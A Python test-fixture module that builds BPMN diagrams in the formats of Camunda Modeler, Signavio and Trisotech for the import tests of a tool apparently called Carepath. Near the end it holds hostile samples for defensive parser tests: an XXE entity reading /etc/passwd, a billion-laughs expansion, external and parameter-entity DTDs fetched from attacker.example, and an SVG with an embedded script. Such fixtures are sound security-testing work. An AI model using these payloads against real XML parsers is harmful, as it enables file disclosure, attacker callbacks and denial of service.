"""Diagrams written the way other tools save them, for the import tests: Camunda Modeler (camunda: extensions,
a collaboration of pools), Signavio and Trisotech exports (their own namespaces and prefixes), a diagram with no
layout, an event subprocess, compensation; and hostile files."""

from __future__ import annotations

BPMN = "http://www.omg.org/spec/BPMN/20100524/MODEL"
DI_NS = (
    'xmlns:bpmndi="http://www.omg.org/spec/BPMN/20100524/DI" xmlns:dc="http://www.omg.org/spec/DD/20100524/DC" '
    'xmlns:di="http://www.omg.org/spec/DD/20100524/DI"'
)
SPIFF = 'xmlns:spiffworkflow="http://spiffworkflow.org/bpmn/schema/1.0/core"'


def _shape(el: str, x: int, y: int, w: int = 100, h: int = 80, p: str = "bpmndi") -> str:
    return (
        f'<{p}:BPMNShape id="{el}_di" bpmnElement="{el}"><dc:Bounds x="{x}" y="{y}" width="{w}" height="{h}"/>'
        f"</{p}:BPMNShape>"
    )


def _edge(el: str, x1: int, y1: int, x2: int, y2: int, p: str = "bpmndi") -> str:
    return (
        f'<{p}:BPMNEdge id="{el}_di" bpmnElement="{el}"><di:waypoint x="{x1}" y="{y1}"/>'
        f'<di:waypoint x="{x2}" y="{y2}"/></{p}:BPMNEdge>'
    )


def camunda_pools(stem: str = "follow_up_call", camunda_form: bool = True) -> str:
    """A Carepath pathway as Camunda Modeler 5 saves it after an edit there: camunda: attributes and elements
    on the process and the task, modeler: attributes on the root, and a second pool for the client (not
    executable) joined by message flows. Carepath can run it."""
    form_key = (
        ' camunda:formKey="camunda-forms:deployment:consent.form" camunda:candidateGroups="case_manager"'
        if camunda_form
        else ""
    )
    return f'''<?xml version="1.0" encoding="UTF-8"?>
<bpmn:definitions xmlns:bpmn="{BPMN}" {DI_NS} {SPIFF} xmlns:camunda="http://camunda.org/schema/1.0/bpmn" xmlns:modeler="http://camunda.org/schema/modeler/1.0" id="Definitions_0x1" targetNamespace="http://bpmn.io/schema/bpmn" exporter="Camunda Modeler" exporterVersion="5.17.0" modeler:executionPlatform="Camunda Platform" modeler:executionPlatformVersion="7.20.0">
  <bpmn:collaboration id="Collaboration_1">
    <bpmn:participant id="Participant_agency" name="Agency" processRef="{stem}" />
    <bpmn:participant id="Participant_client" name="Client" processRef="Process_client" />
    <bpmn:messageFlow id="Flow_msg_call" sourceRef="call_client" targetRef="Participant_client" />
  </bpmn:collaboration>
  <bpmn:process id="{stem}" name="Follow-up call" isExecutable="true" camunda:historyTimeToLive="180">
    <bpmn:extensionElements>
      <camunda:executionListener class="org.example.AuditListener" event="start" />
    </bpmn:extensionElements>
    <bpmn:laneSet id="LaneSet_1">
      <bpmn:lane id="Lane_cm" name="Case Manager">
        <bpmn:flowNodeRef>start</bpmn:flowNodeRef>
        <bpmn:flowNodeRef>call_client</bpmn:flowNodeRef>
        <bpmn:flowNodeRef>end</bpmn:flowNodeRef>
      </bpmn:lane>
    </bpmn:laneSet>
    <bpmn:startEvent id="start" name="Call needed"><bpmn:outgoing>f1</bpmn:outgoing></bpmn:startEvent>
    <bpmn:userTask id="call_client" name="Call the client" camunda:asyncBefore="true"{form_key}>
      <bpmn:extensionElements>
        <camunda:inputOutput><camunda:inputParameter name="reason">follow-up</camunda:inputParameter></camunda:inputOutput>
        <spiffworkflow:properties>
          <spiffworkflow:property name="formJsonSchemaFilename" value="consent.schema.json" />
          <spiffworkflow:property name="dueIn" value='"P2D"' />
        </spiffworkflow:properties>
      </bpmn:extensionElements>
      <bpmn:incoming>f1</bpmn:incoming><bpmn:outgoing>f2</bpmn:outgoing>
    </bpmn:userTask>
    <bpmn:endEvent id="end" name="Called"><bpmn:incoming>f2</bpmn:incoming></bpmn:endEvent>
    <bpmn:sequenceFlow id="f1" sourceRef="start" targetRef="call_client" />
    <bpmn:sequenceFlow id="f2" sourceRef="call_client" targetRef="end" />
  </bpmn:process>
  <bpmn:process id="Process_client" isExecutable="false">
    <bpmn:task id="Activity_answer" name="Answer the phone" />
  </bpmn:process>
  <bpmndi:BPMNDiagram id="BPMNDiagram_1">
    <bpmndi:BPMNPlane id="BPMNPlane_1" bpmnElement="Collaboration_1">
      {_shape("Participant_agency", 120, 60, 600, 200)}
      {_shape("Lane_cm", 150, 60, 570, 200)}
      {_shape("start", 200, 142, 36, 36)}
      {_shape("call_client", 300, 120)}
      {_shape("end", 470, 142, 36, 36)}
      {_edge("f1", 236, 160, 300, 160)}
      {_edge("f2", 400, 160, 470, 160)}
      {_shape("Participant_client", 120, 320, 600, 160)}
      {_shape("Activity_answer", 300, 360)}
      {_edge("Flow_msg_call", 350, 200, 350, 320)}
    </bpmndi:BPMNPlane>
  </bpmndi:BPMNDiagram>
</bpmn:definitions>
'''


def camunda_engine_diagram(stem: str = "camunda_review") -> str:
    """A diagram made for the Camunda engine: forms by formKey, JUEL conditions, no lanes. Carepath cannot
    run it; it must say why, element by element."""
    return f'''<?xml version="1.0" encoding="UTF-8"?>
<bpmn:definitions xmlns:bpmn="{BPMN}" {DI_NS} xmlns:camunda="http://camunda.org/schema/1.0/bpmn" id="Definitions_2" targetNamespace="http://bpmn.io/schema/bpmn" exporter="Camunda Modeler" exporterVersion="5.17.0">
  <bpmn:process id="{stem}" isExecutable="true">
    <bpmn:startEvent id="StartEvent_1"><bpmn:outgoing>Flow_1</bpmn:outgoing></bpmn:startEvent>
    <bpmn:userTask id="Task_review" name="Review" camunda:formKey="embedded:app:forms/review.html" camunda:assignee="${{initiator}}">
      <bpmn:incoming>Flow_1</bpmn:incoming><bpmn:outgoing>Flow_2</bpmn:outgoing>
    </bpmn:userTask>
    <bpmn:exclusiveGateway id="Gateway_ok" default="Flow_no"><bpmn:incoming>Flow_2</bpmn:incoming><bpmn:outgoing>Flow_yes</bpmn:outgoing><bpmn:outgoing>Flow_no</bpmn:outgoing></bpmn:exclusiveGateway>
    <bpmn:endEvent id="End_yes"><bpmn:incoming>Flow_yes</bpmn:incoming></bpmn:endEvent>
    <bpmn:endEvent id="End_no"><bpmn:incoming>Flow_no</bpmn:incoming></bpmn:endEvent>
    <bpmn:sequenceFlow id="Flow_1" sourceRef="StartEvent_1" targetRef="Task_review" />
    <bpmn:sequenceFlow id="Flow_2" sourceRef="Task_review" targetRef="Gateway_ok" />
    <bpmn:sequenceFlow id="Flow_yes" sourceRef="Gateway_ok" targetRef="End_yes">
      <bpmn:conditionExpression xsi:type="bpmn:tFormalExpression" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">${{approved}}</bpmn:conditionExpression>
    </bpmn:sequenceFlow>
    <bpmn:sequenceFlow id="Flow_no" sourceRef="Gateway_ok" targetRef="End_no" />
  </bpmn:process>
  <bpmndi:BPMNDiagram id="BPMNDiagram_1"><bpmndi:BPMNPlane id="BPMNPlane_1" bpmnElement="{stem}">
    {_shape("StartEvent_1", 150, 100, 36, 36)}{_shape("Task_review", 240, 78)}{_shape("Gateway_ok", 400, 93, 50, 50)}
    {_shape("End_yes", 500, 100, 36, 36)}{_shape("End_no", 500, 200, 36, 36)}
    {_edge("Flow_1", 186, 118, 240, 118)}{_edge("Flow_2", 340, 118, 400, 118)}
    {_edge("Flow_yes", 450, 118, 500, 118)}{_edge("Flow_no", 425, 143, 500, 218)}
  </bpmndi:BPMNPlane></bpmndi:BPMNDiagram>
</bpmn:definitions>
'''


def signavio_export(stem: str = "signavio_intake") -> str:
    """Signavio Process Manager's export: the BPMN namespace as the default one (no prefix), sid- ids,
    signavio:signavioMetaData everywhere, and a process that is not executable."""
    return f'''<?xml version="1.0" encoding="UTF-8"?>
<definitions xmlns="{BPMN}" xmlns:bpmndi="http://www.omg.org/spec/BPMN/20100524/DI" xmlns:omgdc="http://www.omg.org/spec/DD/20100524/DC" xmlns:omgdi="http://www.omg.org/spec/DD/20100524/DI" xmlns:signavio="http://www.signavio.com" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" exporter="Signavio Process Editor, http://www.signavio.com" exporterVersion="17.4.0" expressionLanguage="http://www.w3.org/TR/XPath" id="sid-3c1f" targetNamespace="http://www.signavio.com" typeLanguage="http://www.w3.org/2001/XMLSchema">
   <process id="{stem}" isClosed="false" isExecutable="false" name="Intake (Signavio)" processType="None">
      <extensionElements><signavio:signavioDiagramMetaData metaKey="revisionid" metaValue="2b7e"/></extensionElements>
      <laneSet id="sid-ls1">
         <lane id="sid-lane1" name="Intake">
            <extensionElements><signavio:signavioMetaData metaKey="bgcolor" metaValue=""/></extensionElements>
            <flowNodeRef>sid-start</flowNodeRef><flowNodeRef>sid-task</flowNodeRef><flowNodeRef>sid-end</flowNodeRef>
         </lane>
      </laneSet>
      <startEvent id="sid-start" name="Referral">
         <extensionElements><signavio:signavioMetaData metaKey="bgcolor" metaValue="#ffffff"/></extensionElements>
         <outgoing>sid-f1</outgoing>
      </startEvent>
      <task completionQuantity="1" id="sid-task" isForCompensation="false" name="Record referral" startQuantity="1">
         <extensionElements><signavio:signavioMetaData metaKey="risklevel" metaValue=""/></extensionElements>
         <incoming>sid-f1</incoming><outgoing>sid-f2</outgoing>
      </task>
      <endEvent id="sid-end" name="Recorded"><incoming>sid-f2</incoming></endEvent>
      <sequenceFlow id="sid-f1" sourceRef="sid-start" targetRef="sid-task"/>
      <sequenceFlow id="sid-f2" sourceRef="sid-task" targetRef="sid-end"/>
   </process>
   <bpmndi:BPMNDiagram id="sid-diagram">
      <bpmndi:BPMNPlane bpmnElement="{stem}" id="sid-plane">
         <bpmndi:BPMNShape bpmnElement="sid-lane1" id="sid-lane1_gui" isHorizontal="true"><omgdc:Bounds height="200" width="600" x="90" y="60"/></bpmndi:BPMNShape>
         <bpmndi:BPMNShape bpmnElement="sid-start" id="sid-start_gui"><omgdc:Bounds height="30" width="30" x="150" y="145"/></bpmndi:BPMNShape>
         <bpmndi:BPMNShape bpmnElement="sid-task" id="sid-task_gui"><omgdc:Bounds height="80" width="100" x="240" y="120"/></bpmndi:BPMNShape>
         <bpmndi:BPMNShape bpmnElement="sid-end" id="sid-end_gui"><omgdc:Bounds height="28" width="28" x="420" y="146"/></bpmndi:BPMNShape>
         <bpmndi:BPMNEdge bpmnElement="sid-f1" id="sid-f1_gui"><omgdi:waypoint x="180" y="160"/><omgdi:waypoint x="240" y="160"/></bpmndi:BPMNEdge>
         <bpmndi:BPMNEdge bpmnElement="sid-f2" id="sid-f2_gui"><omgdi:waypoint x="340" y="160"/><omgdi:waypoint x="420" y="160"/></bpmndi:BPMNEdge>
      </bpmndi:BPMNPlane>
   </bpmndi:BPMNDiagram>
</definitions>
'''


def trisotech_export(stem: str = "trisotech_follow_up") -> str:
    """Trisotech's Digital Enterprise Suite: the BPMN namespace under the `semantic:` prefix, triso: attributes
    and elements, and (here) a pathway Carepath can run: lanes named after roles, forms and due times."""
    return f'''<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<semantic:definitions xmlns:semantic="{BPMN}" xmlns:bpmndi="http://www.omg.org/spec/BPMN/20100524/DI" xmlns:dc="http://www.omg.org/spec/DD/20100524/DC" xmlns:di="http://www.omg.org/spec/DD/20100524/DI" xmlns:triso="http://www.trisotech.com/2015/triso/modeling" xmlns:trisobpmn="http://www.trisotech.com/2014/triso/bpmn" {SPIFF} id="_1680000000000" exporter="Trisotech Digital Enterprise Suite" exporterVersion="12.5.0" triso:logoChoice="Default" targetNamespace="http://www.trisotech.com/definitions/_1680000000000">
  <semantic:process id="{stem}" name="Follow-up" isExecutable="true" trisobpmn:type="private">
    <semantic:laneSet id="_ls">
      <semantic:lane id="_lane_cm" name="Case Manager"><semantic:flowNodeRef>_start</semantic:flowNodeRef><semantic:flowNodeRef>_call</semantic:flowNodeRef><semantic:flowNodeRef>_end</semantic:flowNodeRef></semantic:lane>
    </semantic:laneSet>
    <semantic:startEvent id="_start" name="Start"><semantic:outgoing>_f1</semantic:outgoing></semantic:startEvent>
    <semantic:userTask id="_call" name="Call the client" triso:userConstraints="true">
      <semantic:extensionElements>
        <triso:customAttributes><triso:attribute name="owner">Quality team</triso:attribute></triso:customAttributes>
        <spiffworkflow:properties>
          <spiffworkflow:property name="formJsonSchemaFilename" value="consent.schema.json" />
          <spiffworkflow:property name="dueIn" value='"PT36H"' />
        </spiffworkflow:properties>
      </semantic:extensionElements>
      <semantic:incoming>_f1</semantic:incoming><semantic:outgoing>_f2</semantic:outgoing>
    </semantic:userTask>
    <semantic:endEvent id="_end" name="Done"><semantic:incoming>_f2</semantic:incoming></semantic:endEvent>
    <semantic:sequenceFlow id="_f1" sourceRef="_start" targetRef="_call"/>
    <semantic:sequenceFlow id="_f2" sourceRef="_call" targetRef="_end"/>
  </semantic:process>
  <bpmndi:BPMNDiagram id="_d1" name="Follow-up"><bpmndi:BPMNPlane id="_p1" bpmnElement="{stem}">
    {_shape("_lane_cm", 90, 60, 600, 200)}{_shape("_start", 150, 142, 36, 36)}{_shape("_call", 240, 120)}{_shape("_end", 420, 142, 36, 36)}
    {_edge("_f1", 186, 160, 240, 160)}{_edge("_f2", 340, 160, 420, 160)}
  </bpmndi:BPMNPlane></bpmndi:BPMNDiagram>
</semantic:definitions>
'''


def _carepath_process(stem: str, body: str, extra_lane_refs: str = "") -> str:
    return f'''<?xml version="1.0" encoding="UTF-8"?>
<bpmn:definitions xmlns:bpmn="{BPMN}" {DI_NS} {SPIFF} id="Definitions_{stem}" targetNamespace="http://example.org/bpmn">
  <bpmn:message id="Message_crisis" name="crisis_reported" />
  <bpmn:process id="{stem}" name="{stem}" isExecutable="true">
    <bpmn:laneSet id="LaneSet_1">
      <bpmn:lane id="Lane_cm" name="Case Manager">
        <bpmn:flowNodeRef>start</bpmn:flowNodeRef><bpmn:flowNodeRef>call_client</bpmn:flowNodeRef><bpmn:flowNodeRef>end</bpmn:flowNodeRef>{extra_lane_refs}
      </bpmn:lane>
    </bpmn:laneSet>
    <bpmn:startEvent id="start"><bpmn:outgoing>f1</bpmn:outgoing></bpmn:startEvent>
    <bpmn:userTask id="call_client" name="Call the client">
      <bpmn:extensionElements><spiffworkflow:properties>
        <spiffworkflow:property name="formJsonSchemaFilename" value="consent.schema.json" />
        <spiffworkflow:property name="dueIn" value='"P1D"' />
      </spiffworkflow:properties></bpmn:extensionElements>
      <bpmn:incoming>f1</bpmn:incoming><bpmn:outgoing>f2</bpmn:outgoing>
    </bpmn:userTask>
    <bpmn:endEvent id="end"><bpmn:incoming>f2</bpmn:incoming></bpmn:endEvent>
    <bpmn:sequenceFlow id="f1" sourceRef="start" targetRef="call_client" />
    <bpmn:sequenceFlow id="f2" sourceRef="call_client" targetRef="end" />
{body}
  </bpmn:process>
</bpmn:definitions>
'''


def no_layout(stem: str = "no_layout") -> str:
    """A runnable pathway written by hand or by a generator: no BPMNDiagram at all."""
    return _carepath_process(stem, "")


def event_subprocess(stem: str = "with_event_subprocess") -> str:
    """An interrupting event subprocess started by a message (a 'crisis from anywhere' drawn inside)."""
    body = """    <bpmn:subProcess id="crisis_sub" name="Crisis while waiting" triggeredByEvent="true">
      <bpmn:startEvent id="crisis_start" name="Crisis reported" isInterrupting="true">
        <bpmn:outgoing>cf1</bpmn:outgoing>
        <bpmn:messageEventDefinition id="med_crisis" messageRef="Message_crisis" />
      </bpmn:startEvent>
      <bpmn:scriptTask id="note_crisis" name="Note the crisis"><bpmn:incoming>cf1</bpmn:incoming><bpmn:outgoing>cf2</bpmn:outgoing>
        <bpmn:script>crisis_noted = True</bpmn:script></bpmn:scriptTask>
      <bpmn:endEvent id="crisis_end"><bpmn:incoming>cf2</bpmn:incoming></bpmn:endEvent>
      <bpmn:sequenceFlow id="cf1" sourceRef="crisis_start" targetRef="note_crisis" />
      <bpmn:sequenceFlow id="cf2" sourceRef="note_crisis" targetRef="crisis_end" />
    </bpmn:subProcess>"""
    return _carepath_process(stem, body, "<bpmn:flowNodeRef>crisis_sub</bpmn:flowNodeRef>")


def compensation(stem: str = "with_compensation") -> str:
    """A booking undone by compensation: a compensation boundary event, its handler, and a throw."""
    body = """    <bpmn:boundaryEvent id="undo_boundary" attachedToRef="call_client">
      <bpmn:compensateEventDefinition id="ced_boundary" />
    </bpmn:boundaryEvent>
    <bpmn:scriptTask id="cancel_call" name="Cancel the call" isForCompensation="true">
      <bpmn:script>call_cancelled = True</bpmn:script>
    </bpmn:scriptTask>
    <bpmn:association id="assoc_undo" associationDirection="One" sourceRef="undo_boundary" targetRef="cancel_call" />"""
    return _carepath_process(
        stem, body, "<bpmn:flowNodeRef>undo_boundary</bpmn:flowNodeRef><bpmn:flowNodeRef>cancel_call</bpmn:flowNodeRef>"
    )


def with_script(stem: str, script: str) -> str:
    """A runnable pathway whose script task runs `script` (for the hostile-script tests)."""
    body = f"""    <bpmn:scriptTask id="hostile" name="Prepare"><bpmn:script>{script}</bpmn:script></bpmn:scriptTask>"""
    return _carepath_process(stem, body, "<bpmn:flowNodeRef>hostile</bpmn:flowNodeRef>")


XXE = """<?xml version="1.0"?>
<!DOCTYPE definitions [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="d"><bpmn:process id="xxe" isExecutable="true"><bpmn:documentation>&xxe;</bpmn:documentation></bpmn:process></bpmn:definitions>
"""
BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="d"><bpmn:process id="lolz" isExecutable="true"><bpmn:documentation>&lol4;</bpmn:documentation></bpmn:process></bpmn:definitions>
"""
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE definitions SYSTEM "http://attacker.example/evil.dtd">
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="d"/>
"""
PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE d [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="d"/>
"""
SVG = '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
DMN_AS_BPMN = (
    '<?xml version="1.0"?><definitions xmlns="https://www.omg.org/spec/DMN/20191111/MODEL/" id="x" '
    'name="x" namespace="x"/>'
)
HTML = "<html><body><h1>not a diagram</h1></body></html>"
